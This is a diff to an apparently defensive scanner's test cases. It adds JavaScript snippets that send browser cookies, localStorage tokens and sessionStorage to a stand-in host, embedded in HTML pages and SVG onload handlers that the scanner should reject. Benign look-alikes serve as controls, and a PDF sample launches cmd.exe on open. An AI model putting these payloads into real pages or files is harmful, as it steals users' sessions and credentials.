@@ -76,7 +76,42 @@ def _notebook() -> bytes:
 _LAUNCH: Final = b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c echo)>>>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
 
 
+_TO: Final = "https://collect.example/"
+#: How a page puts what a browser keeps into what it asks of a host.
+_GIVES: Final = {
+    "picture": f'new Image().src="{_TO}?c="+encodeURIComponent(document.cookie+localStorage.getItem("token"))',
+    "fetch": f"fetch('{_TO}?c='+document.cookie)",
+    "body": f'fetch("{_TO}", {{method: "POST", body: document.cookie}})',
+    "beacon": f"navigator.sendBeacon('{_TO}', document.cookie)",
+    "template": f"fetch(`{_TO}?t=${{localStorage.getItem('hf_token')}}`)",
+    "place": f"location.href='{_TO}?c='+document.cookie",
+    "storage": f'fetch("{_TO}?s=" + JSON.stringify(sessionStorage))',
+}
+#: What scripts of honest pages do with the same words.
+_KEEPS: Final = {
+    "own-host": "fetch('/api/save?token=' + document.cookie.match(/csrftoken=(\\w+)/)[1])",
+    "header": 'fetch("https://api.example.org/v1", {headers: {Authorization: "Bearer " + localStorage.getItem("token")}})',
+    "theme": 'document.body.className = localStorage.getItem("theme"); var home = "https://example.org/";',
+    "counter": "new Image().src='https://www.google-analytics.com/collect?c='+document.cookie",
+}
+
+
+def _page(script: str) -> bytes:
+    return f"<html><body><script>{script}</script></body></html>".encode()
+
+
+def _picture(script: str) -> bytes:
+    text = script.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")
+    return f'<svg xmlns="http://www.w3.org/2000/svg" onload="{text}"><rect width="1" height="1"/></svg>'.encode()
+
+
 CASES: tuple[Case, ...] = (
+    *(Case(f"fetched/page-{name}", f"a page sends what a browser keeps: {name}", partial(lambda s: {**_MODEL, "index.html": _page(s)}, script), "reject",
+           frozenset({_OUTPUT})) for name, script in _GIVES.items()),
+    *(Case(f"fetched/picture-{name}", f"a picture sends what a browser keeps: {name}", partial(lambda s: {**_MODEL, "logo.svg": _picture(s)}, script), "reject",
+           frozenset({_OUTPUT, "xml/script"})) for name, script in _GIVES.items()),
+    *(Case(f"fetched/ordinary-page-{name}", f"a page that keeps to itself: {name}", partial(lambda s: {**_MODEL, "index.html": _page(s)}, script), "admit")
+      for name, script in _KEEPS.items()),
     Case("fetched/pdf-launch", "a PDF starts a program when it is opened", lambda: {**_MODEL, "paper.pdf": _LAUNCH}, "reject", frozenset({_SHELL})),
     Case("fetched/ordinary-pdf-launch", "a PDF whose link opens another document", lambda: {**_MODEL, "paper.pdf": _LAUNCH.replace(b"cmd.exe", b"other.pdf")}, "review"),
     *(Case(f"fetched/{name.replace('.', '-').lower()}", f"{name} runs what it fetches, or takes what it may not", partial(_files, name, text), "reject", frozenset({rule}))
